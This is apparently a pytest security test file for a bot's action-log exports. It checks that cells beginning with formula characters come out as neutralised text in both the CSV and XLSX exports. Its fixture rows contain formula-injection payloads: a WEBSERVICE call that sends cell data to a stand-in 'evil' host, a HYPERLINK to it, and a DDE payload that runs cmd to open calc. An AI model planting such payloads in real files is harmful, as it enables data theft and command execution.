"""Formula injection through the exports: an imported action log whose cells start like formulas
(``=HYPERLINK("http://evil","ref")`` as a reference, ``+``, ``-``, ``@``, a tab, a carriage return, full-width
``＝``) comes out of `mo-bot actions export` as text — in the XLSX no cell is a formula and every such text cell
is of the string type; in the CSV every such value starts with the ``'`` that keeps a spreadsheet from running
it. Both through the real commands, each its own process; SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.exports import FORMULA_TRIGGERS, PREFIX, neutralise, neutralise_cell
from bot.log_text import split_initials
from tests.security.processes import run_mo_bot

EVIL_REF = '=HYPERLINK("http://evil","ref")'
# (reference, title, owner, notes): each text column that reaches the export carries a formula somewhere.
ROWS = [
    (EVIL_REF, "Warrants data", "HH", "imported"),
    ("A-2", '=WEBSERVICE("http://evil/?"&A1)', "JM", "note"),
    ("A-3", "+SUM(1,2)", "-1+1", "@SUM(A1)"),
    ("-A4", "@cmd|'/c calc'!A1", "@JG", "=1+1"),
    ("A-5", "\t=1+1", "＝1", "\r=2+2"),
    ("+A6", "Plain title", "KL", "＋1"),
]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋")


def _log(tmp_path: Path) -> Path:
    path = tmp_path / "log.csv"
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["reference", "pillar", "title", "owner", "status", "notes"])
    for ref, title, owner, notes in ROWS:
        w.writerow([ref, "divert", title, owner, "ongoing", notes])
    path.write_text(buf.getvalue(), encoding="utf-8")
    return path


@pytest.fixture
def imported(db_url: str, tmp_path: Path) -> None:
    r = run_mo_bot(["import", "actions", str(_log(tmp_path)), "--force", "suffolk"], db_url)
    assert r.returncode == 0, r.output


def test_xlsx_export_holds_no_formula(imported: None, db_url: str, tmp_path: Path) -> None:
    out = tmp_path / "log.xlsx"
    r = run_mo_bot(["actions", "export", "--format", "xlsx", "--out", str(out)], db_url)
    assert r.returncode == 0, r.output
    ws = load_workbook(out).active  # not read-only: data types as written
    texts = 0
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
            if isinstance(cell.value, str):
                texts += 1
                assert cell.data_type == "s", (cell.coordinate, cell.data_type)
                assert not cell.value.lstrip().startswith(DANGEROUS_START), (cell.coordinate, cell.value)
    assert texts >= len(ROWS) * 5
    refs = [c.value for c in ws["B"][1:]]
    assert PREFIX + EVIL_REF in refs  # the reference is shown, as text
    # The workbook's own XML carries no formula element at all.
    with zipfile.ZipFile(out) as z:
        sheet = z.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet


def test_csv_export_prefixes_every_formula(imported: None, db_url: str, tmp_path: Path) -> None:
    out = tmp_path / "log.csv"
    r = run_mo_bot(["actions", "export", "--format", "csv", "--out", str(out)], db_url)
    assert r.returncode == 0, r.output
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    by_ref = {row[1]: row for row in rows[1:]}
    assert len(by_ref) == len(ROWS)
    for ref, title, owner, _notes in ROWS:
        line = by_ref[neutralise(ref)]
        # The import trims each value; the export shows what was stored, neutralised (joint owners, "-1+1", as the
        # log's "A & B").
        assert line[2] == neutralise(title.strip())
        assert line[3] == neutralise(" & ".join(split_initials(owner.strip())))
    assert PREFIX + EVIL_REF in by_ref
    for row in rows[1:]:
        for value in row:
            assert not value.lstrip().startswith(DANGEROUS_START), value


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1", "-1", "@x", "\t=1", "\r=1", "\n=1", "\0=1", "＝1", "＋1", "－1", "＠1", "  =1+1", "\u3000=1"],
)
def test_neutralise_prefixes_every_formula_start(value: str) -> None:
    assert neutralise(value) == PREFIX + value
    assert neutralise_cell(value) == PREFIX + value


@pytest.mark.parametrize("value", ["", "A-1", "Warrants data", "'quoted", "2026-01-05", "HH & JM", "1+1"])
def test_neutralise_leaves_plain_text_alone(value: str) -> None:
    assert neutralise(value) == value


def test_every_trigger_is_covered() -> None:
    for ch in FORMULA_TRIGGERS:
        assert neutralise(ch + "x").startswith(PREFIX)
    assert neutralise_cell(None) is None and neutralise_cell(3) == 3
